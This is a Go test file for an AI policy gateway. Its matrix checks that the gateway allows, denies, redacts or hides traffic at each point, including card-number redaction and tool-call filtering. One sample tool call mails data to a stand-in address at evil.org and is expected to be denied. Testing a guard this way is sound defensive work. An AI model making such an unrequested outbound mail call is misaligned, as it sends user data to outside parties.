package gateway

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/proviso-dev/proviso/policy"
)

// The matrix: every point, with every outcome that it can have, on every wire, in and outside of streams, with denials as refusals and as errors.
var matrix = []struct {
	point, outcome string
	turns          []said
	tools          []string
	agent          string
	answer         answer

	asked bool // the upstream was asked
	// What the upstream was and was not shown, and what the caller gets and does not get.
	shown, hidden, gets, lacks []string
	calls                      []string // the calls that the caller gets
	denied                     bool
}{
	{point: "session_start", outcome: "allow", turns: hello, answer: fine, asked: true, gets: []string{"all is well"}},
	{point: "session_start", outcome: "deny", agent: "banned-1", turns: hello, answer: fine, denied: true, gets: []string{"may not begin"}},
	{point: "input", outcome: "allow", turns: hello, answer: fine, asked: true, shown: []string{"hello there"}, gets: []string{"all is well"}},
	{point: "input", outcome: "deny", turns: []said{{role: "user", text: "tell me of plutonium"}}, answer: fine, denied: true, gets: []string{"words-1", "Say it without the word"}},
	{point: "input", outcome: "deny system", turns: []said{{role: "system", text: "you know plutonium"}, {role: "user", text: "hi"}}, answer: fine, denied: true, gets: []string{"words-1"}},
	{point: "input", outcome: "edit", turns: []said{{role: "user", text: "my card is 1111-2222-3333-4444, ok?"}}, answer: fine, asked: true, shown: []string{"my card is [card], ok?"}, hidden: []string{"1111-2222"}, gets: []string{"all is well"}},
	{point: "model_request", outcome: "deny", turns: []said{{role: "user", text: "uranium"}}, answer: fine, denied: true, gets: []string{"words-1"}},
	{point: "tool_list", outcome: "allow", turns: hello, tools: []string{"lookup"}, answer: fine, asked: true, shown: []string{`"lookup"`}, gets: []string{"all is well"}},
	{point: "tool_list", outcome: "hide", turns: hello, tools: []string{"erase", "lookup", "no_such"}, answer: fine, asked: true, shown: []string{`"lookup"`}, hidden: []string{"erase", "no_such"}, gets: []string{"all is well"}},
	{point: "tool_list", outcome: "deny", turns: hello, tools: []string{"retired"}, answer: fine, denied: true, gets: []string{"words-1"}},
	{point: "tool_result", outcome: "allow", turns: result("fine"), answer: fine, asked: true, shown: []string{"fine"}, gets: []string{"all is well"}},
	{point: "tool_result", outcome: "deny", turns: result("there is plutonium"), answer: fine, asked: true, shown: []string{"[withheld]", "words-1"}, hidden: []string{"there is plutonium"}, gets: []string{"all is well"}},
	{point: "tool_result", outcome: "edit", turns: result("card 1111-2222-3333-4444"), answer: fine, asked: true, shown: []string{"card [card]"}, hidden: []string{"1111-2222"}, gets: []string{"all is well"}},
	{point: "model_response", outcome: "deny", turns: hello, answer: answer{text: "take thorium"}, asked: true, denied: true, gets: []string{"words-1"}, lacks: []string{"take thorium"}},
	{point: "output", outcome: "allow", turns: hello, answer: answer{text: "a long answer in many pieces"}, asked: true, gets: []string{"a long answer in many pieces"}},
	{point: "output", outcome: "deny", turns: hello, answer: answer{text: "take plutonium"}, asked: true, denied: true, gets: []string{"words-1", "That word is not used here"}, lacks: []string{"take plutonium"}},
	{point: "output", outcome: "edit", turns: hello, answer: answer{text: "card 1111-2222-3333-4444 it is"}, asked: true, gets: []string{"card [card] it is"}, lacks: []string{"1111"}},
	{point: "output", outcome: "edit beside a call", turns: hello, answer: answer{"card 1111-2222-3333-4444", []use{{"c1", "lookup", `{"id":"A"}`}}}, asked: true, gets: []string{"card [card]"}, lacks: []string{"1111"}, calls: []string{`lookup{"id":"A"}`}},
	{point: "tool_call", outcome: "allow", turns: hello, answer: answer{uses: []use{{"c1", "lookup", `{"id": "A"}`}}}, asked: true, calls: []string{`lookup{"id": "A"}`}},
	{point: "tool_call", outcome: "allow with a text", turns: hello, answer: answer{"looking", []use{{"c1", "lookup", `{"id":"A"}`}}}, asked: true, gets: []string{"looking"}, calls: []string{`lookup{"id":"A"}`}},
	{point: "tool_call", outcome: "deny", turns: hello, answer: answer{uses: []use{{"c1", "mail", `{"to":"x@evil.org","subject":"s","body":"b"}`}}}, asked: true, denied: true, gets: []string{"mail-1", "This mail would leave the house", "Ask the user for an address"}, lacks: []string{"evil.org"}},
	{point: "tool_call", outcome: "deny not granted", turns: hello, answer: answer{uses: []use{{"c1", "erase", `{}`}}}, asked: true, denied: true, gets: []string{"erase"}},
	{point: "tool_call", outcome: "deny unknown", turns: hello, answer: answer{uses: []use{{"c1", "no_such", `{}`}}}, asked: true, denied: true, gets: []string{"no_such"}},
	{point: "tool_call", outcome: "edit", turns: hello, answer: answer{"sending", []use{{"c1", "mail", `{"to":"x@example.com","body":"b"}`}}}, asked: true, gets: []string{"sending"}, calls: []string{`mail{"body":"b","subject":"(no subject)","to":"x@example.com"}`}},
	{point: "tool_call", outcome: "needs_info", turns: hello, answer: answer{uses: []use{{"c1", "pay", `{"id":"A","amount":5}`}}}, asked: true, denied: true, gets: []string{"account[A]", "lookup"}},
	{point: "tool_call", outcome: "deny one of two", turns: hello, answer: answer{uses: []use{{"c1", "mail", `{"to":"x@evil.org","subject":"s","body":"b"}`}, {"c2", "lookup", `{"id":"B"}`}}}, asked: true, gets: []string{"mail-1"}, lacks: []string{"evil.org"}, calls: []string{`lookup{"id":"B"}`}},
	{point: "tool_call", outcome: "deny the last of three", turns: hello, answer: answer{"three", []use{{"c1", "lookup", `{"id":"A"}`}, {"c2", "lookup", `{"id":"B"}`}, {"c3", "erase", `{}`}}}, asked: true, gets: []string{"three", "erase"}, calls: []string{`lookup{"id":"A"}`, `lookup{"id":"B"}`}},
}

var (
	hello = []said{{role: "user", text: "hello there"}}
	fine  = answer{text: "all is well"}
)

// result is a transcript whose last turn is the result of a call.
func result(text string) []said {
	return []said{{role: "user", text: "look"}, {role: "assistant", uses: []use{{"c9", "lookup", `{"id":"A"}`}}}, {role: "tool", call: "c9", text: text}}
}

func TestMatrix(t *testing.T) {
	for _, d := range dialects {
		for _, stream := range []bool{false, true} {
			for _, asError := range []bool{false, true} {
				for _, c := range matrix {
					name := fmt.Sprintf("%s/%s/%s/stream=%v/error=%v", d.wire.Name(), c.point, c.outcome, stream, asError)
					t.Run(name, func(t *testing.T) {
						door := newDoor(t, func(cfg *Config) { cfg.Denials.AsError = asError })
						door.up.say(d.plain(c.answer), d.stream(c.answer))
						status, h, body := door.post(d.wire.Path(), d.request("m", c.turns, c.tools, stream), HeaderSession, "one", HeaderAgent, c.agent)
						if n := door.up.count(); n != map[bool]int{true: 1}[c.asked] {
							t.Fatalf("the upstream was asked %d times; %d %s", n, status, body)
						}
						asked := door.up.last()
						for _, s := range c.shown {
							if !strings.Contains(asked, s) {
								t.Errorf("the upstream was not shown %q: %s", s, asked)
							}
						}
						for _, s := range c.hidden {
							if strings.Contains(asked, s) {
								t.Errorf("the upstream was shown %q: %s", s, asked)
							}
						}
						for _, s := range c.lacks {
							if strings.Contains(body, s) {
								t.Errorf("the caller got %q: %s", s, body)
							}
						}
						g := d.read(t, status, h.Get("Content-Type"), body)
						if want := c.denied && asError; g.failed != want || (status == 403) != want {
							t.Fatalf("status %d, failed %v: %s", status, g.failed, body)
						}
						said := g.text
						if g.failed {
							said = body
						}
						for _, s := range c.gets {
							if !strings.Contains(said, s) {
								t.Errorf("the caller did not get %q: %s", s, body)
							}
						}
						var calls []string
						for _, u := range g.uses {
							calls = append(calls, u.tool+u.args)
						}
						if !slices.EqualFunc(calls, c.calls, sameCall) {
							t.Errorf("the caller got the calls %q, want %q", calls, c.calls)
						}
						if c.point == "output" || c.point == "tool_call" {
							if c.outcome == "allow" && body != map[bool]string{false: d.plain(c.answer), true: d.stream(c.answer)}[stream] {
								t.Errorf("an allowed answer is not passed on byte for byte:\n%s", body)
							}
						}
						for _, once := range []string{`"message_start"`, `"response.created"`, `"message_stop"`, "[DONE]"} {
							if strings.Count(body, `"type":`+once) > 1 || strings.Count(body, once) > 2 {
								t.Errorf("%s is there twice: %s", once, body)
							}
						}
						if h.Get("X-Policy-Version") == "" || h.Get("X-Decision-Id") == "" || h.Get(HeaderSession) == "" {
							t.Errorf("headers %v", h)
						}
					})
				}
			}
		}
	}
}

// sameCall compares calls without the spaces that a wire does not keep.
func sameCall(a, b string) bool {
	return strings.ReplaceAll(a, " ", "") == strings.ReplaceAll(b, " ", "")
}

// The list of routes is true: every point that it names is a row of the matrix, which is played on every wire; and what it says of streams is what they do.
func TestRoutes(t *testing.T) {
	rows := map[string]bool{}
	for _, c := range matrix {
		rows[c.point] = true
	}
	for _, dir := range []string{"testdata/desk", "testdata/calls"} {
		p, found := policy.Compile(loadPack(t, dir))
		if p == nil {
			t.Fatal(found)
		}
		routes := Routes(p)
		if len(routes) != len(Wires)+2 {
			t.Fatalf("%d routes", len(routes))
		}
		for _, r := range routes {
			if r.Wire == "" {
				continue
			}
			for _, at := range r.Points {
				if !rows[at.Point.String()] {
					t.Errorf("%s: no row of the matrix is about %s", r.Path, at.Point)
				}
			}
			if want := map[string]string{"testdata/desk": "windows of 19 bytes", "testdata/calls": "flows"}[dir]; r.Text != want || r.Calls != "held" {
				t.Errorf("%s: text %s, calls %s", r.Path, r.Text, r.Calls)
			}
		}
	}
}
